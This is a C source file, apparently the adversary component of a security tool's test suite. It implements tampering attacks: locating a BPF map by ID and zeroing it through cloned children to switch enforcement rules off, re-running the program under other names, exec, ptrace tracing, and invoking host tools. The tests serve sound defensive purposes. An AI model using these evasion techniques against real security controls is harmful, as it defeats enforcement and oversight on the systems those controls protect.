/* SPDX-License-Identifier: Apache-2.0 */
/* Switching rules off by children that are killed for it, and programs under other names. */
#include "adversary.h"
#include <linux/bpf.h>
#include <sys/ptrace.h>

static int call_bpf(int command, union bpf_attr *with)
{
	return syscall(SYS_bpf, command, with, sizeof(*with));
}

/* What the children share with each other; they are killed one by one. */
static struct {
	struct bpf_map_info info;
	int fd, found;
	unsigned long long value;
} * shared;

/* Runs one step in a child that has our descriptors; a kill ends the child only. */
static void step(void (*run)(unsigned int), unsigned int argument)
{
	pid_t child = syscall(SYS_clone, CLONE_FILES | SIGCHLD, NULL, NULL, NULL, NULL);

	need(child >= 0, "clone");
	if (!child) {
		run(argument);
		_exit(0);
	}
	waitpid(child, NULL, 0);
}

static void open_map(unsigned int id)
{
	union bpf_attr with = { .map_id = id };

	call_bpf(BPF_MAP_GET_FD_BY_ID, &with);
}

static void read_info(unsigned int fd)
{
	union bpf_attr with = { 0 };

	with.info.bpf_fd = fd;
	with.info.info_len = sizeof(shared->info);
	with.info.info = (unsigned long)&shared->info;
	call_bpf(BPF_OBJ_GET_INFO_BY_FD, &with);
}

static void write_map(unsigned int fd)
{
	unsigned int key = 0;
	union bpf_attr with = { 0 };

	with.map_fd = fd;
	with.key = (unsigned long)&key;
	with.value = (unsigned long)&shared->value;
	call_bpf(BPF_MAP_UPDATE_ELEM, &with);
}

/*
 * rules_off NAME IDS: the map of that name is overwritten with zero by children that share descriptors and
 * memory; then a user namespace shows if rules are in force.
 */
static int attack_rules_off(char **args)
{
	unsigned int last = number(args, 1, 400);
	int before = dup(0), after;

	close(before);
	shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	need(shared != MAP_FAILED, "memory");
	for (unsigned int id = 1; id < last && !shared->found; id++) {
		step(open_map, id);
		after = dup(0);
		close(after);
		if (after == before)
			continue; /* no such map, or no descriptor of it */
		step(read_info, before);
		shared->found = !strcmp(shared->info.name, word(args, 0, "generation"));
		if (!shared->found)
			close(before);
	}
	if (!shared->found) {
		errno = EPERM;
		return result(-1);
	}
	for (int i = 0; i < 3; i++)
		step(write_map, before);
	if (unshare(CLONE_NEWUSER))
		return result(-1);
	linger();
	return result(0);
}

static void copy_to(const char *path)
{
	int from = open("/proc/self/exe", O_RDONLY), to;
	char block[1 << 16];
	ssize_t length;

	unlink(path);
	to = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0755);
	need(from >= 0 && to >= 0, "a copy");
	while ((length = read(from, block, sizeof(block))) > 0)
		need(write(to, block, length) == length, "write");
	close(to);
}

/* as PROGRAM WORD...: a copy under that name runs the words. */
static int attack_as(char **args)
{
	copy_to(word(args, 0, "/tmp/as"));
	execv(args[0], args);
	return result(-1);
}

/* exec PROGRAM WORD...: the image's program runs the words. */
static int attack_exec(char **args)
{
	execv(word(args, 0, "/bin/adversary"), args);
	return result(-1);
}

/* traced PROGRAM WORD...: the same, traced by this process. */
static int attack_traced(char **args)
{
	pid_t child = fork();
	int status = 0;

	need(child >= 0, "fork");
	if (!child) {
		need(!ptrace(PTRACE_TRACEME, 0, NULL, NULL), "ptrace");
		execv(word(args, 0, "/bin/adversary"), args);
		_exit(SETUP);
	}
	while (waitpid(child, &status, 0) == child && WIFSTOPPED(status))
		ptrace(PTRACE_CONT, child, NULL, NULL);
	return WIFEXITED(status) ? WEXITSTATUS(status) : ERROR;
}

/* tool PROGRAM SCRIPT WORD...: runs a tool of the host's with a script in $1..., then the words. */
static int attack_tool(char **args)
{
	char *const environment[] = { "PATH=/usr/sbin:/usr/bin", NULL };
	char *argv[16] = { 0 };
	int count = 0, status = 0;
	pid_t child;

	while (*args && strcmp(*args, "--") && count < 15)
		argv[count++] = *args++;
	child = fork();
	need(child >= 0, "fork");
	if (!child) {
		execve(argv[0], argv, environment);
		_exit(SETUP);
	}
	waitpid(child, &status, 0);
	need(WIFEXITED(status) && !WEXITSTATUS(status), "the tool");
	if (*args)
		return run(args + 1);
	return result(0);
}

const struct attack tamper_attacks[] = {
	{ "rules_off", attack_rules_off }, { "as", attack_as },	    { "exec", attack_exec },
	{ "traced", attack_traced },	   { "tool", attack_tool }, { NULL, NULL },
};
